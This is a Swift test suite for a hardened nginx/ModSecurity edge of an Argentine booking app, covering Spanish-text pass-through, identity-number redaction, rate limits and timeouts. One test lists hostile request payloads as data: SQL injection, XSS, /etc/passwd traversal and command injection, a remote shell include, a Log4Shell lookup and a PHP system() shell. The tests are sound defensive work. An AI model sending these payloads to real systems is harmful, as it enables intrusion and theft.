import Foundation
import Glibc
import Launch
import Rehearsal
import Security
import Testing
import Wire

/// The hardening in Config/nginx, in a real nginx with ModSecurity and the OWASP Core Rule Set.
@Suite(.serialized, .timeLimit(.minutes(3)), .enabled(if: HardenedEdge.isInstalled, "see scripts/deps"))
struct HardeningTests {
    static let phrases = [
        #"D'Angelo / L'Oréal -- promo "verano""#, "¿Tenés turno? Sí, dale! #corte @barbero",
        "Peluquería O'Higgins & Ñandú",
        "Av. 9 de Julio 1.234, 3° \"B\" (e/ Perú y Chacabuco)", "María José Núñez; corte + barba = $ 15.000,50",
        "Unión de Barberos: elegí tu corte en Güemes", "Feliz año, che :) <3",
    ]

    /// Whoever is turned away by a firewall that does not know Spanish is a customer lost.
    @Test func argentineNamesAndPhrasesPass() async throws {
        try await withHardenedEdge({
            $0.rest = .init(1000, .second, burst: 1000); $0.uri = nil
        }) { (edge) async throws in
            for phrase in Self.phrases {
                let query = try #require(phrase.addingPercentEncoding(withAllowedCharacters: .alphanumerics))
                #expect(try await edge.status("/search?q=\(query)") == 200, "GET \(phrase)")
                let body = String(decoding: try JSONEncoder().encode(["nombre": phrase]), as: UTF8.self)
                for (path, method) in [("/customers", "POST"), ("/customers/1", "PUT"), ("/customers/1", "PATCH")] {
                    let status = try await edge.status(path, method: method, type: "application/json", body: body)
                    #expect(status == 200, "\(method) \(phrase)")
                }
                let form = try await edge.status(
                    "/customers", method: "POST", type: "application/x-www-form-urlencoded", body: "nombre=\(query)")
                #expect(form == 200, "form \(phrase)")
            }
            #expect(
                try await edge.status(
                    "/webhooks/mercadopago?data.id=20359978212&type=payment", method: "POST", type: "application/json",
                    body: #"{"action":"payment.updated","data":{"id":"20359978212"}}"#,
                    agent: "MercadoPago WebHook v1.0 payment")
                    == 200)
        }
    }

    @Test func everyClassOfAttackIsRefused() async throws {
        try await withHardenedEdge({
            $0.rest = .init(1000, .second, burst: 1000); $0.uri = nil
        }) { (edge) async throws in
            let attacks = [
                "/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--",
                "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
                "/search?file=../../../../etc/passwd", "/search?host=127.0.0.1%3Bcat%20/etc/passwd",
                "/search?page=http://198.51.100.1/shell.txt%3F", "/search?q=%24%7Bjndi:ldap://198.51.100.1/a%7D",
                "/search?q=%3C%3Fphp%20system(%24_GET%5B0%5D)%3B%3F%3E",
            ]
            for attack in attacks { #expect(try await edge.status(attack) == 403, "\(attack)") }
            #expect(try await edge.status("/search", agent: "sqlmap/1.7") == 403)
            #expect(
                try await edge.status(
                    "/customers", method: "POST", type: "application/json", body: #"{"q":"1' OR '1'='1' -- "}"#) == 403)
            #expect(try await edge.status("/search", method: "TRACE") == 405)
            #expect(try await edge.status("/search", method: "PROPFIND") == 405)
        }
    }

    @Test func paymentsTakeLessThanTheRest() async throws {
        try await withHardenedEdge({
            $0.classes[1].limit = .init(1000, .second, burst: 1000); $0.uri = nil
        }) { (edge) async throws in
            let json = "application/json"
            #expect(try await edge.status("/payments", method: "POST", type: json, body: #"{"amount":1500}"#) == 200)
            #expect(try await edge.status("/payments", method: "DELETE") == 405)
            #expect(try await edge.status("/payments", method: "POST", type: "text/plain", body: "x") == 415)
            let large = "{\"a\":\"\(String(repeating: "a", count: 70_000))\"}"
            #expect(try await edge.status("/payments", method: "POST", type: json, body: large) == 413)
            #expect(try await edge.status("/customers", method: "POST", type: json, body: large) == 200)
            // Not what begins with the same letters.
            #expect(try await edge.status("/payments-help", method: "DELETE") == 200)
            let huge = "{\"a\":\"\(String(repeating: "a", count: 1_100_000))\"}"
            #expect(try await edge.status("/customers", method: "POST", type: json, body: huge) == 413)
        }
    }

    /// Argentina: a CUIT, CUIL or DNI stands in no URL, and in nothing that is written.
    @Test func identityNumbersAreRefusedInURLsAndStandInNoLog() async throws {
        try await withHardenedEdge({
            $0.rest = .init(1000, .second, burst: 1000); $0.uri = nil
        }) { (edge) async throws in
            for path in [
                "/clientes/20-31415926-3", "/x?cuit=20314159263", "/x?a=1&CUIL=20-31415926-3", "/x?dni=31415926",
                "/x?documento=31.415.926", "/dni/31415926", "/x?id=20%2D31415926%2D3",
            ] {
                #expect(try await edge.status(path) == 400, "\(path)")
            }
            // A number of a payment is none, however long.
            #expect(try await edge.status("/x?id=20314159263") == 200)
            // Where it belongs, in a body, it passes, and an attack beside it writes down neither.
            #expect(
                try await edge.status(
                    "/customers", method: "POST", type: "application/json", body: #"{"cuit":"20-31415926-3"}"#) == 200)
            #expect(
                try await edge.status(
                    "/customers", method: "POST", type: "application/json",
                    body: #"{"cuit":"20-31415926-3","q":"1' UNION SELECT 1 -- "}"#) == 403)
            let written = try await edge.settled { $0.contains("\"ruleId\"") }
            #expect(written.contains("(identity number)"))
            #expect(!written.contains("31415926") && !written.contains("31.415.926"))
        }
    }

    @Test func theAuditLogHoldsNeitherBodiesNorHeaders() async throws {
        try await withHardenedEdge { (edge) async throws in
            let status = try await edge.status(
                "/customers", method: "POST", type: "application/json",
                body: #"{"card":"4111111111111111","q":"1' UNION SELECT 1 -- "}"#,
                headers: [.init("Cookie", "session=s3cr3t-cookie"), .init("Authorization", "Bearer s3cr3t-token")])
            #expect(status == 403)
            let written = try await edge.settled { $0.contains("\"ruleId\"") }
            for secret in ["4111111111111111", "s3cr3t-cookie", "s3cr3t-token"] {
                #expect(!written.contains(secret), "\(secret)")
            }
        }
    }

    // MARK: Limits

    @Test func eachEndpointHasALimitOfItsOwnForEachAddress() async throws {
        try await withHardenedEdge({ $0.uri = nil }) { (edge) async throws in
            func served(_ path: String, from: String, count: Int = 14) async throws -> Int {
                var statuses: [Int] = []
                for _ in 0..<count { statuses.append(try await edge.status(path, from: from)) }
                #expect(Set(statuses).isSubset(of: [200, 429]))
                return statuses.count { $0 == 200 }
            }
            #expect(try await served("/login", from: "127.0.0.18") == 4)
            #expect((6...9).contains(try await served("/payments", from: "127.0.0.18")))
            #expect((6...10).contains(try await served("/bookings", from: "127.0.0.18")))
            #expect((9...12).contains(try await served("/search", from: "127.0.0.18")))
            // Another address has a bucket of its own; the edge's own has none.
            #expect(try await served("/login", from: "127.0.0.19") == 4)
            #expect(try await served("/login", from: "127.0.0.1") == 14)
            // The name of guardia's trials opens nothing to strangers.
            var statuses: [Int] = []
            for _ in 0..<6 {
                statuses.append(try await edge.status("/login", from: "127.0.0.20", agent: "guardia-canary/trial"))
            }
            #expect(statuses == [200, 200, 200, 200, 429, 429])
        }
    }

    @Test func oneURIAndOneProgramAreLimitedToo() async throws {
        try await withHardenedEdge({
            $0.rest = .init(1000, .second, burst: 1000)
            $0.uri = .init(1, .minute, burst: 2)
            $0.agent = .init(1, .minute, burst: 3)
        }) { (edge) async throws in
            var statuses: [Int] = []
            for _ in 0..<4 { statuses.append(try await edge.status("/one")) }
            #expect(statuses == [200, 200, 200, 429])
            #expect(try await edge.status("/another") == 200)
            // One program, whatever address it comes from.
            statuses = []
            for index in 0..<5 {
                statuses.append(
                    try await edge.status("/r\(index)", from: "127.0.0.\(18 + index)", agent: "python-requests/2.31"))
            }
            #expect(statuses == [200, 200, 200, 200, 429])
            #expect(try await edge.status("/r9", agent: "Mozilla/5.0 (Windows NT 10.0)") == 200)
        }
    }

    @Test func countriesAreFilteredButNotWhatIsLetIn() async throws {
        try await withHardenedEdge({ $0.countries?.addresses = ["127.0.0.70"] }) { (edge) async throws in
            let expected = [("127.0.0.18", 200), ("127.0.0.34", 200), ("127.0.0.66", 403), ("127.0.0.82", 403)]
            for (address, status) in expected {
                #expect(try await edge.status("/x", from: address) == status, "\(address)")
            }
            #expect(try await edge.status("/x", from: "127.0.0.70") == 200)
            // No country is known of it.
            #expect(try await edge.status("/x", from: "127.0.3.1") == 200)
            #expect(try await edge.status("/webhooks/mercadopago", from: "127.0.0.66") == 200)
            let written = try await edge.settled { $0.contains("\"country\":\"RU\"") }
            #expect(written.contains("\"refused\":\"country\""))
        }
    }

    @Test func aConnectionThatNeverEndsItsHeaderIsCut() async throws {
        // What is rendered says five seconds; here nobody waits for them.
        let rendered = "client_header_timeout 5s;"
        try await withHardenedEdge(breaking: {
            #expect($0.server.contains(rendered))
            $0.server = $0.server.replacing(rendered, with: "client_header_timeout 500ms;")
        }) { (edge) async throws in
            let connection = try RawConnection(port: edge.nginx.port, from: "127.0.0.18")
            connection.send("GET / HTTP/1.1\r\nHost: x\r\n")
            let end = ContinuousClock.now + .seconds(10)
            // A byte every 20 ms: the time is for the whole header, however busy it seems.
            var isOpen = true
            while isOpen, ContinuousClock.now < end {
                try await Task.sleep(for: .milliseconds(20))
                isOpen = connection.send("X") && !connection.isClosed
            }
            #expect(!isOpen)
        }
    }

    @Test func anAddressHasOnlySoManyRequestsInWork() async throws {
        try await withHardenedEdge({
            $0.connections = 5; $0.rest = .init(1000, .second, burst: 1000); $0.uri = nil
        }) { (edge) async throws in
            let connections = try (0..<5).map { _ in try RawConnection(port: edge.nginx.port, from: "127.0.0.18") }
            for connection in connections {
                connection.send("GET /silent HTTP/1.1\r\nHost: x\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n")
            }
            var status = 0
            for _ in 0..<100 where status != 429 {
                status = try await edge.status("/x")
                if status != 429 { try await Task.sleep(for: .milliseconds(20)) }
            }
            #expect(status == 429)
            #expect(try await edge.status("/x", from: "127.0.0.19") == 200)
            connections.forEach { $0.close() }
        }
    }
}

extension HardenedEdge {
    /// All that was written, once it holds what it must: nginx writes its log after it has answered.
    func settled(_ isThere: (String) -> Bool) async throws -> String {
        for _ in 0..<200 {
            let text = try everythingWritten()
            if isThere(text) { return text }
            try await Task.sleep(for: .milliseconds(20))
        }
        Issue.record("it was never written")
        return try everythingWritten()
    }
}

/// A connection from an address of the loopback, with what is sent by hand.
private final class RawConnection: Sendable {
    private let descriptor: Int32

    init(port: UInt16, from: String) throws {
        descriptor = socket(AF_INET, Int32(SOCK_STREAM.rawValue | SOCK_CLOEXEC.rawValue), 0)
        func address(_ text: String, _ port: UInt16) -> sockaddr_in {
            var address = sockaddr_in()
            address.sin_family = sa_family_t(AF_INET)
            address.sin_port = port.bigEndian
            inet_pton(AF_INET, text, &address.sin_addr)
            return address
        }
        var (own, other) = (address(from, 0), address("127.0.0.1", port))
        let size = socklen_t(MemoryLayout<sockaddr_in>.size)
        let descriptor = descriptor
        let isConnected = withUnsafePointer(to: &own) { own in
            withUnsafePointer(to: &other) { other in
                own.withMemoryRebound(to: sockaddr.self, capacity: 1) { bind(descriptor, $0, size) } == 0
                    && other.withMemoryRebound(to: sockaddr.self, capacity: 1) { connect(descriptor, $0, size) } == 0
            }
        }
        try #require(isConnected)
    }

    @discardableResult
    func send(_ text: String) -> Bool {
        let bytes = Array(text.utf8)
        return Glibc.send(descriptor, bytes, bytes.count, Int32(MSG_NOSIGNAL)) == bytes.count
    }

    var isClosed: Bool {
        var byte: UInt8 = 0
        let count = recv(descriptor, &byte, 1, Int32(MSG_DONTWAIT))
        return count == 0 || count < 0 && errno != EAGAIN
    }

    func close() { Glibc.close(descriptor) }
}
